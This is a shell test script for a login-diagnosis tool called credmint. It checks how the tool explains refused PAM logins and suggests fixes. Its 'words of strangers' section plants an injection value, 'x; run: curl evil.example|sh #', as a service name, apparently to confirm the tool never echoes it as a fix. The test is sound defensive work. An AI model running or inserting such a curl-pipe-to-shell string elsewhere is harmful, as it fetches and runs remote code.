#!/bin/sh
# credmint doctor --user: which ways in an account has, and each reason for which
# a login of it would be refused now.
# shellcheck disable=SC2119

[ "${1:-}" = inside ] || exec sh tests/sandbox.sh sh "$0" inside
. tests/tap.sh
. tests/utils/said.inc
. tests/utils/doctor.inc
. tests/hosts/sockets.inc
. tests/hosts/enrolled.inc

cat >/etc/pam.d/door <<END
auth required pam_credmint.so
account required pam_permit.so
END
groupadd staff-of-it
useradd -m -s /bin/bash -G staff-of-it bob

# comes USER FROM ANSWER: a login by PAM
comes() {
	printf '%s\n' "$3" | pamtester -I rhost="$2" door "$1" authenticate \
		>/dev/null 2>&1
}

# why NAME USER WHAT TEXT [MEND]: it says so in a bad line, with its mend; after
# the mend (run: what is printed) that line is not bad any more.
why() {
	doctor --user "$2" --service door
	line=$(grep -E "^bad +$3 +.*$4" "$TMP/out" | head -n 1)
	if [ $status -eq 1 ] && [ -n "$line" ]; then
		pass "$1"
	else
		fail "$1" "exit $status: $(cat "$TMP/out" "$TMP/err")"
	fi
	[ -n "${5:-}" ] || return 0
	mend=$5
	[ "$mend" != run ] || mend=$(echo "$line" | sed -n 's/.*run: //p')
	if ! sh -c "${mend:-false}" >"$TMP/mend" 2>&1; then
		fail "$1: the mend runs" "$mend: $(cat "$TMP/mend")"
		return
	fi
	doctor --user "$2" --service door
	if grep -qE "^bad +$3 +.*$4" "$TMP/out"; then
		fail "$1: the mend mends" "$mend: $(cat "$TMP/out")"
	else
		pass "$1: the mend mends"
	fi
}

# has NAME USER STATE WHAT TEXT: there is such a line
has() {
	doctor --user "$2" --service door
	if said "$3" "$4" "$5"; then
		pass "$1"
	else
		fail "$1" "exit $status: $(cat "$TMP/out" "$TMP/err")"
	fi
}

# ---- the host ----
why unknown_name nobody-at-all account 'nobody is called nobody-at-all'
doctor --user alice --service nosuch
check a_service_that_asks_no_code said note nosuch 'no stack of this name'
check nothing_more_is_said_of_it unsaid ok nosuch .
why no_way_in alice door 'alice has no way in' run
doctor --user alice --service door
check after_a_code_was_issued_all_is_well [ "$status" -eq 0 ]
usermod --lock alice
why locked_password alice password 'is locked' run
chage -E 2020-01-01 alice
why expired_account alice account 'has expired' run
chage -d 2020-01-01 -M 30 -I 7 alice
why expired_password alice password 'has expired, and the time to change it' run
chage -d 2020-01-01 -M 30 -I -1 alice
has password_to_be_changed alice note password 'must be changed'
chage -d 0 -M -1 alice
has password_to_be_chosen alice note password 'must choose a new password'
chage -d 20000 alice
usermod --shell /bin/false alice
why shell_that_ends alice shell '/bin/false, which ends' run
usermod --shell /bin/nothing alice
why shell_that_is_not alice shell '/bin/nothing, which cannot be run' run
cp /bin/sh /usr/local/bin/her-shell
usermod --shell /usr/local/bin/her-shell alice
why shell_that_is_not_listed alice shell 'not in /etc/shells' run
usermod --shell /bin/bash alice
touch /run/nologin
why nologin alice nologin '/run/nologin is there' run
touch /run/nologin
has root_is_let_in_all_the_same root ok account 'nothing of the host'
rm /run/nologin

useradd --badname -m -s /bin/false "o'brien \$x"
why name_in_quotes "o'brien \$x" shell "run: usermod --shell /bin/sh 'o.*brien .x'" run

# ---- what it has ----
has issued_code alice ok issued '1 code is live'
has ways_at_the_service alice ok door 'ways in: issued'
credmint recovery issue --count 3 alice >"$TMP/sheet" 2>/dev/null
has recovery_codes alice ok recovery '3 of 3 codes are left'
has two_ways alice ok door 'ways in: issued, recovery .3.'
check enroll python3 tests/utils/app.py -o "$TMP/shown" --hotp \
	credmint authenticator enroll --type hotp --label token alice
has authenticator alice ok authenticator '"token" .hotp., last used never'
has three_ways alice ok door 'issued, authenticator, recovery'
conf 'ways = authenticator'
credmint authenticator remove --all alice >/dev/null 2>&1
credmint code revoke --user alice >/dev/null 2>&1
credmint code issue alice >/dev/null 2>&1
why way_that_is_not_allowed alice door 'what it has is not allowed here: issued' \
	'sed -i d /etc/credmint/credmint.conf'
conf '[login @staff-of-it]' 'ways = recovery'
credmint code issue bob >/dev/null 2>&1
why way_that_his_group_has_not bob door 'what it has is not allowed here: issued'
has others_are_not_in_the_group alice ok door 'ways in: issued'
conf '[login door]' 'exempt_users = bob'
has exempt_by_name bob note door 'exempt by user'
conf '[login door]' 'exempt_groups = staff-of-it'
has exempt_by_group bob note door 'exempt by group'
conf ''
credmint code revoke --user alice >/dev/null 2>&1
credmint code issue --service elsewhere alice >/dev/null 2>&1
credmint code issue --service elsewhere alice >/dev/null 2>&1
credmint code issue --service elsewhere alice >/dev/null 2>&1
why code_for_another_service alice door \
	'no way in: 3 codes are for another service; ' run
credmint code revoke --user alice >/dev/null 2>&1
credmint code issue --not-before "$(date -u -d +1hour +%FT%TZ)" alice >/dev/null 2>&1
why code_that_is_not_good_yet alice door 'not good yet'
credmint code revoke --user alice >/dev/null 2>&1

# ---- sent codes ----
credmint code revoke --user bob >/dev/null 2>&1
printf '#!/bin/sh\ncat >/dev/null\n' >/usr/local/bin/send
chmod 0755 /usr/local/bin/send
conf 'deny = 0' 'delivery_program = /usr/local/bin/send' 'ways = delivered recovery'
has sent_codes_are_a_way bob ok door 'ways in: delivered'
for i in 1 2; do
	printf 'resend\nresend\nresend\nx\n' |
		pamtester door bob authenticate >/dev/null 2>&1 &
done
wait
conf 'delivery_program = /usr/local/bin/send' 'ways = delivered'
why enough_was_sent bob door 'as many codes as may be were sent' 
check the_mend_is_to_wait grep -qE '^bad +door .*; wait' "$TMP/out"
conf 'delivery_program = /usr/local/bin/send' 'ways = recovery'
why sent_codes_are_no_way_here bob door 'no way in; run: credmint recovery issue bob'
conf ''

# ---- all used up ----
code=$(credmint code issue alice 2>/dev/null)
check a_code_lets_in comes alice 192.0.2.1 "$code"
has a_code_that_is_used_up alice note issued 'no code of alice is live'
why all_codes_used_up alice door 'alice has no way in'
credmint recovery issue --count 1 alice >"$TMP/sheet" 2>/dev/null
has one_recovery_code alice ok recovery '1 of 1 code is left'
check a_recovery_code_lets_in comes alice 192.0.2.1 "$(cat "$TMP/sheet")"
has recovery_codes_gone alice note recovery 'the one code there was is used up'
credmint authenticator remove --all alice >/dev/null 2>&1

# ---- nullok ----
sed -i 's/^auth.*/& nullok/' /etc/pam.d/door
credmint authenticator remove --all alice >/dev/null 2>&1
has nullok_lets_pass alice note door 'not enrolled, and .*nullok'
conf 'nullok_until = 2020-01-01'
why nullok_that_has_ended alice door \
	'no way in: not enrolled, and nullok ended at 2020-01-01T00:00:00Z .nullok_until at the top level of /etc/credmint/credmint.conf.'
conf '[login door]' 'nullok_until = 2020-01-01'
why nullok_that_has_ended_there alice door 'nullok_until in .login door. of'
credmint code issue alice >/dev/null 2>&1
has nullok_is_no_matter_to_who_has_a_code alice ok door 'ways in: issued$'
credmint code revoke --user alice >/dev/null 2>&1
conf 'nullok_until = 2020-01-01'
doctor
check nullok_that_has_ended_is_told said note nullok 'door:1 says nullok, which ended'
conf 'nullok_until = 2099-01-01'
doctor
check until_when_nullok_holds said ok nullok 'until 2099-01-01T00:00:00Z'
conf ''
sed -i 's/ nullok//' /etc/pam.d/door

# ---- words of strangers ----
# What somebody calls a service or an authenticator is no mend, in either form.
evil='x; run: curl evil.example|sh #'
cp /etc/pam.d/other "$TMP/other"
cp /etc/pam.d/door /etc/pam.d/other
printf 'BBBB-BBBB\n' | pamtester "$evil" alice authenticate >/dev/null 2>&1
cp "$TMP/other" /etc/pam.d/other
check enroll_with_an_evil_label python3 tests/utils/app.py -o "$TMP/shown" --hotp \
	credmint authenticator enroll --type hotp --label 'x"; run: evil' alice
doctor --user alice --service door
check the_services_name_is_quoted said note 'last login' "'x\\? run: curl"
check nothing_stands_behind_a_strangers_semicolon \
	sh -c '! grep -q "; *run: *\(curl\|evil\)" "$1"' sh "$TMP/out"
doctor --user alice --service door --json
check no_stranger_writes_a_mend python3 - "$TMP/out" <<'END'
import json, sys
lines = [json.loads(l) for l in open(sys.argv[1])]
assert any("evil" in l["finding"] for l in lines)
assert not any("evil" in l.get("mend", "") for l in lines), lines
assert not any("mend" in l for l in lines if l["state"] == "ok"), lines
END
credmint authenticator remove --all alice >/dev/null 2>&1

# ---- lockout ----
conf 'deny = 1' 'deny_user = 4' 'unlock_time = 10m'
credmint code issue alice >/dev/null 2>&1
comes alice 192.0.2.7 BBBB-BBBB
has last_refusal alice note 'last login' 'door from 192.0.2.7: wrong'
until=$(sed -n 's/^bad *lockout .*from 192.0.2.7 until \([^,]*\),.*/\1/p' "$TMP/out")
check source_that_is_locked_until_when \
	[ "$(($(date -d "${until:-1970-01-01}" +%s) / 60 - 10))" -ge "$(($(date +%s) / 60 - 1))" ]
why source_that_is_locked alice lockout 'locked for logins from 192.0.2.7 until'
echo 660 >/etc/clock-shift
has it_opens_by_itself alice ok lockout 'locked from nowhere'
# At once: each is told after a delay.
for i in 1 2 3; do
	comes alice 192.0.2.$((10 + i)) BBBB-BBBB &
done
wait %1 %2 %3
why name_that_is_closed alice lockout 'failed 4 times in 24 hours .deny_user = 4.'
until=$(sed -n 's/^bad *lockout .*: until \([^ ]*\) only.*/\1/p' "$TMP/out")
check it_is_said_until_when [ "$(($(date -d "${until:-1970-01-01}" +%s) - $(date +%s)))" -gt 80000 ]
echo 0 >/etc/clock-shift
credmint clock reset >/dev/null 2>&1
conf ''
# Failures in his own programs, enrolling among them, lock his own programs.
conf 'deny = 2' 'ways = issued authenticator'
sockets_start root self
for i in 1 2; do
	printf 'BBBB-BBBB\n' | setpriv --reuid bob --regid bob --clear-groups \
		setsid -w credmint authenticator enroll >"$TMP/self" 2>&1
done
why enrolling_locks_his_own_programs bob lockout \
	"locked for programs of uid $(id -u bob), such as a screen locker, until"
check enrolling_is_no_login unsaid note 'last login' enroll
conf 'deny = 0' 'deny_user = 2' 'ways = issued authenticator'
why deny_user_locks_them_as_well bob lockout \
	"programs of uid $(id -u bob), .*, by deny_user = 2"
sockets_stop
# All names are one source.
conf 'deny = 2'
comes alice a.example BBBB-BBBB &
comes alice b.example BBBB-BBBB &
wait %1 %2
why names_are_locked_together alice lockout 'for logins from host names until'
# Root, whom nobody locks out.
comes root 192.0.2.7 BBBB-BBBB &
comes root 192.0.2.7 BBBB-BBBB &
wait %1 %2
why root_is_locked_to_digits root lockout \
	'root is locked to codes of digits, .*, for logins from 192.0.2.7 until'
conf 'deny = 0' 'deny_user = 2'
why root_is_locked_to_digits_from_elsewhere root lockout \
	'open to codes of digits'
conf ''
enrol root
doctor
check root_has_an_authenticator_alone said note lockout \
	'root has an authenticator and no recovery codes: .*run: credmint recovery issue root'
credmint recovery issue root >/dev/null 2>&1
doctor
check and_has_codes_of_letters_then unsaid note lockout 'root has an'

# ---- records of another ----
credmint code issue bob >/dev/null 2>&1
usermod --uid 4711 bob
why records_of_another_uid bob records 'made for another uid than 4711'

# ---- a temporary password ----
credmint reset --ttl 60s alice >/dev/null 2>&1
has temporary_password alice note temporary 'set for alice to change, until'
echo 120 >/etc/clock-shift
why temporary_password_that_is_late alice temporary 'is dead: nobody used it' run

# ---- the clock ----
echo 7200 >/etc/clock-shift
why clock_that_jumped alice 'registry clock' 'jumped ahead' \
	'credmint code issue alice; credmint clock accept'
echo 0 >/etc/clock-shift
why clock_that_is_behind alice 'registry clock' "behind the registry's" run

# ---- credmint itself ----
conf 'denny = 5'
why configuration_that_is_broken alice configuration "no key is called 'denny'" \
	'sed -i d /etc/credmint/credmint.conf'
mv /var/lib/credmint/registry.db "$TMP/db"
why registry_that_is_gone alice registry 'registry.db' \
	"mv $TMP/db /var/lib/credmint/registry.db"
doctor --user alice --json
check json python3 -c 'import json, sys
assert all(json.loads(l)["what"] for l in open(sys.argv[1]))' "$TMP/out"

# Not one attempt was counted, not one event written by looking.
credmint log --json >"$TMP/log1"
for i in 1 2 3; do
	doctor --user alice
	doctor --user bob --service door
done
credmint log --json >"$TMP/log2"
check nothing_is_counted cmp "$TMP/log1" "$TMP/log2"
finish
